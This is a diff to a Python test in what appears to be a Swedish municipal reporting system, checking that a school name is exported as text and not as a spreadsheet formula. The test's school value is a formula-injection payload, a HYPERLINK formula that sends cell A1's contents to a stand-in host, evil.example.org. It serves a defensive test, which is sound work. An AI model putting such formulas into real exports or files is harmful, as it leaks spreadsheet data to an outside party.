@@ -17,6 +17,7 @@ from storage.reports.kpi import key_figures
 from storage.reports.period import parse_period
 
 SYSTEM = Actor(label="test", municipality_id=None, role="system")
+REGISTERED_ON = date(2026, 2, 2)
 SCHOOL = '=HYPERLINK("https://evil.example.org/?d="&A1;"Öppna")'
 
 
@@ -31,11 +32,12 @@ async def test_a_school_name_is_exported_as_text_not_a_formula(sessionmaker):
             personnummer=fictitious_personnummer(date(2008, 1, 20), 71, "man"),
             first_name="Ivar",
             last_name="Injektionsson",
-            registered_on=date(2026, 2, 2),
+            registered_on=REGISTERED_ON,
             registration_reason="avbrott_nationellt",
             source="gymnasieskola",
             school=SCHOOL,
         ),
+        today=REGISTERED_ON,
     )
     table = (await key_figures(sessionmaker, chef, parse_period("2026H1"))).to_table()
     assert any(SCHOOL in row for row in table.rows), "the school should be in the report"
